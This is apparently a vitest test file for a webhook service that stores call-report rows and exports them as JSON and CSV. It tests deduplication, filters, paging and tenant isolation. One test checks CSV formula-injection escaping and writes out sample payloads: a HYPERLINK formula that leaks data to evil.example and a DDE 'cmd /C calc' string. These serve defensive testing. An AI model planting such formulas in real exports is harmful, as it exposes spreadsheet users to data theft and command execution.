import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, databaseTargets, outputsOf, type TestApp } from '../../../test/support.js';
import { insertReportRow, type NewReportRow } from '../../storage/report-rows.js';

type Key = { name: string; value: unknown };
const key = (name: string, value: unknown): Key => ({ name: `$flow.key.${name}`, value });
const call = (reportType: string, flowId: string, startTime: string, ...more: Key[]): Key[] => [
  key('reportType', reportType),
  key('flowid', flowId),
  key('starttime', startTime),
  ...more,
];

describe.each(await databaseTargets())('pullreport and reports on $name', (target) => {
  let t: TestApp;
  let otherToken: string;
  let ownToken: string;
  beforeAll(async () => {
    t = await createTestApp(target);
    await t.api('POST', '/api/accounts', { id: 2, name: 'Other' });
    otherToken = (await t.api('POST', '/api/accounts/2/tokens')).json().token;
    ownToken = (await t.api('POST', '/api/accounts/1/tokens')).json().token;
  });
  afterAll(() => t.close());

  const write = (keys: Key[], options: { token?: string; url?: string } = {}) => t.webhook('pullreport', keys, options);
  const rows = async (reportType: string, query = '', token?: string) => {
    const response = await t.api('GET', `/api/accounts/1/reports/${reportType}${query}`, undefined, token);
    expect(response.statusCode, response.body).toBe(200);
    return response.json() as { rows: Array<Record<string, unknown>>; next: string | null };
  };
  const csv = async (reportType: string, query = '') => {
    const response = await t.api('GET', `/api/accounts/1/reports/${reportType}?format=csv${query}`);
    expect(response.statusCode, response.body).toBe(200);
    return { response, records: parse(response.body, { columns: true }) as Array<Record<string, string>> };
  };

  it('stores a call record with its fixed fields and every other variable, and answers SUCCESS only', async () => {
    const response = await write(
      call('call', '58', '2021-01-11T09:00:00.000+5:30', key('dtmf', 1), key('dnis', '18001234567'), key('accountID', '1'), key('callId', 'a-1'), key('language', 'HINDI'), { name: '$user.key.segment', value: 'gold' }),
    );
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ method: 'pullreport', status: 'SUCCESS', keys: [] });
    const { rows: stored } = await rows('call');
    expect(stored).toEqual([
      {
        id: expect.any(Number),
        reportType: 'call',
        stage: 'prod',
        callId: 'a-1',
        flowId: '58',
        dtmf: '1',
        dnis: '18001234567',
        accountId: 1,
        startTime: '2021-01-11T09:00:00.000+5:30',
        startAt: '2021-01-11T03:30:00.000Z',
        receivedAt: expect.any(String),
        extra: { language: 'HINDI', segment: 'gold' },
      },
    ]);
  });

  it('adds no second row when a webhook with the same callId is retried', async () => {
    const keys = call('retry', '58', '2021-01-11T09:00:00Z', key('callId', 'same'), key('dtmf', '1'));
    expect((await write(keys)).json().status).toBe('SUCCESS');
    expect((await write(call('retry', '58', '2021-01-11T09:05:00Z', key('callId', 'same'), key('dtmf', '2')))).json().status).toBe('SUCCESS');
    expect((await write(call('retry', '58', '2021-01-11T09:06:00Z'))).json().status).toBe('SUCCESS');
    expect((await write(call('retry', '58', '2021-01-11T09:06:00Z'))).json().status).toBe('SUCCESS');
    const stored = (await rows('retry')).rows;
    // The first write of a callId wins; rows without a callId are never merged.
    expect(stored.map((row) => [row.callId, row.dtmf])).toEqual([['same', '1'], [null, null], [null, null]]);
  });

  it('writes the calls made at once: one row a callId, the first one sent, and every row without a callId', async () => {
    const sent = [
      call('together', '7', '2021-01-11T09:00:00Z', key('callId', 'x'), key('dtmf', '1')),
      call('together', '7', '2021-01-11T09:01:00Z', key('callId', 'y'), key('dtmf', '2')),
      call('together', '7', '2021-01-11T09:02:00Z', key('callId', 'x'), key('dtmf', '3')),
      call('together', '7', '2021-01-11T09:03:00Z', key('dtmf', '4')),
      call('together', '7', '2021-01-11T09:04:00Z', key('dtmf', '5')),
    ];
    const answers = await Promise.all(sent.map((keys) => write(keys)));
    expect(answers.map((answer) => answer.json().status)).toEqual(['SUCCESS', 'SUCCESS', 'SUCCESS', 'SUCCESS', 'SUCCESS']);
    const stored = (await rows('together')).rows;
    expect(stored.map((row) => [row.callId, row.dtmf])).toEqual([['x', '1'], ['y', '2'], [null, '4'], [null, '5']]);
  });

  it('answers each of several rows stored at once whether it was new, and fails only a row the database refuses', async () => {
    const row = (callId: string | null, dtmf: string, accountId = 1): NewReportRow => ({
      accountId, reportType: 'stored-together', stage: 'prod', callId, flowId: '7', dtmf, dnis: null,
      startAt: Date.parse('2021-01-11T09:00:00Z') + Number(dtmf) * 60_000, startTime: '2021-01-11T09:00:00Z', extra: {},
    });
    const store = (each: NewReportRow) => insertReportRow(t.database.db, each, Date.now());
    const together = [row('a', '1'), row('b', '2'), row('a', '3'), row(null, '4'), row('b', '5'), row(null, '6')];
    expect(await Promise.all(together.map(store))).toEqual([true, true, false, true, false, true]);
    expect(await store(row('a', '7'))).toBe(false);
    // An account that does not exist breaks its row's foreign key: that call fails, the rows written with it do not.
    const [refused, kept] = await Promise.allSettled([store(row('c', '8', 999_999)), store(row('d', '9'))]);
    expect(refused.status).toBe('rejected');
    expect(kept).toEqual({ status: 'fulfilled', value: true });
    const stored = (await rows('stored-together')).rows;
    expect(stored.map((each) => [each.callId, each.dtmf])).toEqual([['a', '1'], ['b', '2'], [null, '4'], [null, '6'], ['d', '9']]);
  });

  it('keeps the same callId apart in another report type and another account', async () => {
    await write(call('typeA', '1', '2021-01-11T09:00:00Z', key('callId', 'shared')));
    await write(call('typeB', '1', '2021-01-11T09:00:00Z', key('callId', 'shared')));
    await write(call('typeA', '1', '2021-01-11T09:00:00Z', key('callId', 'shared')), { token: otherToken });
    expect((await rows('typeA')).rows).toHaveLength(1);
    expect((await rows('typeB')).rows).toHaveLength(1);
    const other = await t.api('GET', '/api/accounts/2/reports/typeA');
    expect(other.json().rows).toHaveLength(1);
  });

  it('answers 422 and writes nothing for a missing or bad reportType, flowid or starttime', async () => {
    const cases: Array<[Key[], string[]]> = [
      [[key('flowid', '1'), key('starttime', '2021-01-11T09:00:00Z')], ['$flow.key.reportType']],
      [call('bad type!', '1', '2021-01-11T09:00:00Z'), ['$flow.key.reportType']],
      [call('x'.repeat(65), '1', '2021-01-11T09:00:00Z'), ['$flow.key.reportType']],
      [[key('reportType', 'bad'), key('starttime', '2021-01-11T09:00:00Z')], ['$flow.key.flowid']],
      [[key('reportType', 'bad'), key('flowid', '1'), key('starttime', '')], ['$flow.key.starttime']],
      [call('bad', '1', '11/01/2021 9am'), ['$flow.key.starttime']],
      [call('bad', '1', '2021-02-30T09:00:00+05:30'), ['$flow.key.starttime']],
    ];
    for (const [keys, parameters] of cases) {
      const response = await write(keys);
      expect(response.statusCode, JSON.stringify(keys)).toBe(422);
      expect(response.json().error.parameters).toEqual(parameters);
      expect(outputsOf(response)['$flow.key.errorCode']).toMatch(/^(MISSING|INVALID)_PARAMETER$/);
    }
    expect((await rows('bad')).rows).toEqual([]);
    expect((await t.api('GET', '/api/accounts/1/reports')).json().map((entry: { reportType: string }) => entry.reportType)).not.toContain('bad');
  });

  it('says in words what a reportType may hold, not that it has "an invalid format"', async () => {
    const response = await write(call('call report', '1', '2021-01-11T09:00:00Z'));
    expect(response.json().error.message).toBe('$flow.key.reportType must be 1–64 letters, digits, _ or -');
  });

  it('tags test-stage rows and shows them only with stage=test', async () => {
    await write(call('staged', '7', '2021-01-11T09:00:00Z', key('callId', 'p')));
    await write(call('staged', '7', '2021-01-11T09:00:00Z', key('callId', 't')), { url: '/reliance-nippon-v1/test/' });
    expect((await rows('staged')).rows.map((row) => row.callId)).toEqual(['p']);
    expect((await rows('staged', '?stage=test')).rows.map((row) => [row.callId, row.stage])).toEqual([['t', 'test']]);
    // A test call replaying a production callId gets its own test row and leaves the production row alone.
    await write(call('staged', '7', '2021-01-11T09:30:00Z', key('callId', 'p')), { url: '/reliance-nippon-v1/test/' });
    expect((await rows('staged', '?stage=test')).rows.map((row) => row.callId)).toEqual(['t', 'p']);
    expect((await rows('staged')).rows.map((row) => [row.callId, row.startAt])).toEqual([['p', '2021-01-11T09:00:00.000Z']]);
    const { records } = await csv('staged', '&stage=test');
    expect(records.map((record) => [record.callId, record.stage])).toEqual([['t', 'test'], ['p', 'test']]);
  });

  it('filters by account-time days, instants, flow and dnis', async () => {
    // Asia/Kolkata: 1 Nov 00:00 is 31 Oct 18:30 UTC.
    const starts = ['2026-10-31T23:59:00+05:30', '2026-11-01T00:00:00+05:30', '2026-11-15T12:00:00+05:30', '2026-11-30T23:59:59.999+05:30', '2026-12-01T00:00:00+05:30'];
    for (const [index, start] of starts.entries()) {
      await write(call('daily', index % 2 ? 'odd' : 'even', start, key('dnis', index < 3 ? '1800' : '1900'), key('callId', `d${index}`)));
    }
    const ids = async (query: string) => (await rows('daily', query)).rows.map((row) => row.callId);
    expect(await ids('?from=2026-11-01&to=2026-11-30')).toEqual(['d1', 'd2', 'd3']);
    expect(await ids('?from=2026-11-01')).toEqual(['d1', 'd2', 'd3', 'd4']);
    expect(await ids('?to=2026-10-31')).toEqual(['d0']);
    expect(await ids('?from=2026-11-15T06:30:00Z&to=2026-11-15T06:30:00.001Z')).toEqual(['d2']);
    expect(await ids('?flowId=odd')).toEqual(['d1', 'd3']);
    expect(await ids('?dnis=1900')).toEqual(['d3', 'd4']);
    expect(await ids('?dnis=1800&flowId=even&from=2026-11-01')).toEqual(['d2']);
    const { records } = await csv('daily', '&from=2026-11-01&to=2026-11-30&flowId=odd');
    expect(records.map((record) => record.callId)).toEqual(['d1', 'd3']);
  });

  it('pages JSON rows in start-time order with a next cursor', async () => {
    for (let index = 0; index < 5; index++) {
      await write(call('paged', '1', `2026-11-0${5 - index}T10:00:00Z`, key('callId', `p${5 - index}`)));
    }
    const first = await rows('paged', '?limit=2');
    expect(first.rows.map((row) => row.callId)).toEqual(['p1', 'p2']);
    const second = await rows('paged', `?limit=2&cursor=${first.next}`);
    expect(second.rows.map((row) => row.callId)).toEqual(['p3', 'p4']);
    const third = await rows('paged', `?limit=2&cursor=${second.next}`);
    expect(third.rows.map((row) => row.callId)).toEqual(['p5']);
    expect(third.next).toBeNull();
    // The page that holds the last row says so, even when it is full.
    const whole = await rows('paged', '?limit=5');
    expect(whole.rows).toHaveLength(5);
    expect(whole.next).toBeNull();
    expect((await rows('paged', `?limit=2&cursor=${first.next}`)).next).not.toBeNull();
  });

  it('exports CSV with the fixed columns, then every extra column of the selection, quoting commas, quotes and newlines', async () => {
    await write(call('quoted', '9', '2026-11-01T10:00:00+05:30', key('callId', 'q1'), key('note', 'late, "very" late\nsecond line'), key('Agent', 'Asha')));
    await write(call('quoted', '9', '2026-11-01T11:00:00+05:30', key('callId', 'q2'), key('agent', 'राज'), key('stage', 'menu-2')));
    await write(call('quoted', '9', '2026-11-02T10:00:00+05:30', key('callId', 'q3'), key('onlyLater', 'x')));
    const { response, records } = await csv('quoted', '&to=2026-11-01');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="quoted-prod.csv"');
    expect(response.body.split('\r\n')[0]).toBe('startTime,startAt,flowId,dnis,dtmf,callId,accountId,stage,receivedAt,Agent,note,extra.stage');
    expect(records).toEqual([
      expect.objectContaining({ startTime: '2026-11-01T10:00:00+05:30', startAt: '2026-11-01T04:30:00.000Z', callId: 'q1', accountId: '1', stage: 'prod', Agent: 'Asha', note: 'late, "very" late\nsecond line', 'extra.stage': '' }),
      expect.objectContaining({ callId: 'q2', Agent: 'राज', note: '', 'extra.stage': 'menu-2' }),
    ]);
    // Without a byte order mark by default; with one on request, for Excel on Windows.
    expect(response.rawPayload[0]).toBe(0x73);
    const marked = await csv('quoted', '&to=2026-11-01&bom=true');
    expect([...marked.response.rawPayload.subarray(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x73]);
    expect(marked.response.body.slice(1)).toBe(response.body);
  });

  it('exports cells and headers that a spreadsheet would run as formulas as text, and raw values only with raw=true', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
    await write(
      call('formulas', '7', '2026-11-01T10:00:00+05:30', key('callId', 'f1'), key('dtmf', '-1'), key('dnis', '+918001234567'), key('note', formula), key('@SUM(1+1)', 'at'), key('cmd', '+cmd|\' /C calc\'!A0'), key('plain', 'a=b')),
    );
    const safe = await csv('formulas');
    expect(safe.response.body.split('\r\n')[0]).toBe(`startTime,startAt,flowId,dnis,dtmf,callId,accountId,stage,receivedAt,"'@SUM(1+1)",cmd,note,plain`);
    expect(safe.records).toEqual([
      expect.objectContaining({ dnis: "'+918001234567", dtmf: "'-1", note: `'${formula}`, "'@SUM(1+1)": 'at', cmd: "'+cmd|' /C calc'!A0", plain: 'a=b' }),
    ]);
    const raw = await csv('formulas', '&raw=true');
    expect(raw.records).toEqual([expect.objectContaining({ dnis: '+918001234567', dtmf: '-1', note: formula, '@SUM(1+1)': 'at' })]);
    // JSON answers are data for programs, not spreadsheets: never changed.
    expect((await rows('formulas')).rows[0]).toMatchObject({ dnis: '+918001234567', dtmf: '-1', extra: expect.objectContaining({ note: formula }) });
  });

  it('exports a header alone when nothing matches', async () => {
    const { response, records } = await csv('nothing');
    expect(records).toEqual([]);
    expect(response.body).toBe('startTime,startAt,flowId,dnis,dtmf,callId,accountId,stage,receivedAt\r\n');
  });

  it('lists report types with their prod and test row counts', async () => {
    await write(call('counted', '1', '2026-11-01T10:00:00Z'));
    await write(call('counted', '1', '2026-11-01T10:00:00Z'));
    await write(call('counted', '1', '2026-11-01T10:00:00Z'), { url: '/svc/test' });
    const list = (await t.api('GET', '/api/accounts/1/reports')).json() as Array<{ reportType: string; prodRows: number; testRows: number }>;
    expect(list.find((entry) => entry.reportType === 'counted')).toEqual({ reportType: 'counted', prodRows: 2, testRows: 1 });
    expect(list.map((entry) => entry.reportType)).toEqual([...list.map((entry) => entry.reportType)].sort());
  });

  it("answers 404 to another account's token and lets an account token read its own reports", async () => {
    await write(call('private', '1', '2026-11-01T10:00:00Z', key('callId', 'secret')));
    for (const url of ['/api/accounts/1/reports', '/api/accounts/1/reports/private', '/api/accounts/1/reports/private?format=csv']) {
      const response = await t.api('GET', url, undefined, otherToken);
      expect(response.statusCode, url).toBe(404);
      expect(response.body).not.toContain('secret');
    }
    expect((await rows('private', '', ownToken)).rows.map((row) => row.callId)).toEqual(['secret']);
    expect((await t.api('GET', '/api/accounts/99/reports/private')).statusCode).toBe(404);
  });

  it("refuses a webhook whose accountID names another tenant, writing nothing", async () => {
    const response = await write(call('tenant', '1', '2026-11-01T10:00:00Z', key('accountID', '2')));
    expect(response.statusCode).toBe(403);
    expect((await t.api('GET', '/api/accounts/2/reports/tenant')).json().rows).toEqual([]);
  });

  it('names each bad filter with a 422', async () => {
    const response = await t.api('GET', '/api/accounts/1/reports/call?from=soon&to=2026-13-01');
    expect(response.statusCode).toBe(422);
    expect(response.json().error.fields.map((field: { field: string }) => field.field)).toEqual(['from', 'to']);
    const reversed = await t.api('GET', '/api/accounts/1/reports/call?from=2026-11-02&to=2026-11-01');
    expect(reversed.json().error.fields).toEqual([{ field: 'to', message: 'must be after from' }]);
    for (const query of ['stage=staging', 'format=xml', 'limit=0', 'cursor=abc', 'colour=blue']) {
      expect((await t.api('GET', `/api/accounts/1/reports/call?${query}`)).statusCode, query).toBe(422);
    }
    expect((await t.api('GET', '/api/accounts/1/reports/bad%20type')).statusCode).toBe(422);
  });
});
